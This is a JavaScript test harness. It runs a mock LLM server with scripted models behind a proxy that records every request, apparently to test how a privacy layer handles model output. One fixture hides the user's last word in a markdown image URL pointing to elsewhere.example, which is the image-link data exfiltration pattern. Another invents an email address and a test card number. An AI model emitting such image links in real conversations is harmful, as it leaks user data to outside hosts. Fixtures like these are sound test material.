// A bot made of `@copilotkit/aimock`, whose folder is the argument. What it does with the last message depends on the model:
// `echo` repeats it, `call` calls a tool with it, `lure` hides it in an image, `invent` names addresses that nobody sent.
// Streams come in pieces of seven characters, so pseudonyms are cut. Its own journal leaves out what it does not know, so a hop
// before it records what arrives, byte by byte: `GET /recorded`.
const http = require("node:http");
const { LLMock } = require(process.argv[2]);

const said = (request) => {
  const content = request.messages.at(-1).content;
  return typeof content === "string" ? content : content.map((part) => part.text ?? "").join("");
};
const answers = {
  echo: (request) => ({ content: `You wrote: ${said(request)}` }),
  call: (request) => ({
    toolCalls: [{ name: "send", arguments: JSON.stringify({ to: said(request).split(" ").at(-1), text: said(request) }) }],
  }),
  lure: (request) => {
    const word = encodeURIComponent(said(request).split(" ").at(-1));
    return { content: `![](https://elsewhere.example/i.png?q=${word}) and https://shop.example/?q=${word} end` };
  },
  invent: () => ({ content: "Ask bob.meyer@made-up.com or pay with 4012 8888 8888 1881, please." }),
};

const bot = new LLMock({ port: 0, chunkSize: 7 });
for (const [model, response] of Object.entries(answers)) bot.addFixture({ match: { model }, response });
const recorded = [];

async function hop(request, reply) {
  if (request.url === "/recorded") return reply.end(JSON.stringify(recorded));
  const pieces = [];
  for await (const piece of request) pieces.push(piece);
  const body = Buffer.concat(pieces);
  recorded.push({ path: request.url, headers: request.headers, body: body.toString() });
  const { method, headers } = request;
  const forward = http.request(bot.url + request.url, { method, headers }, (answer) => {
    reply.writeHead(answer.statusCode, answer.headers);
    answer.pipe(reply);
  });
  forward.on("error", () => reply.destroy());
  forward.end(body);
}

const front = http.createServer(hop);
bot.start().then(() =>
  front.listen(0, "127.0.0.1", () => console.log(`listening address=http://127.0.0.1:${front.address().port}`)),
);
process.on("SIGTERM", () => process.exit(0));
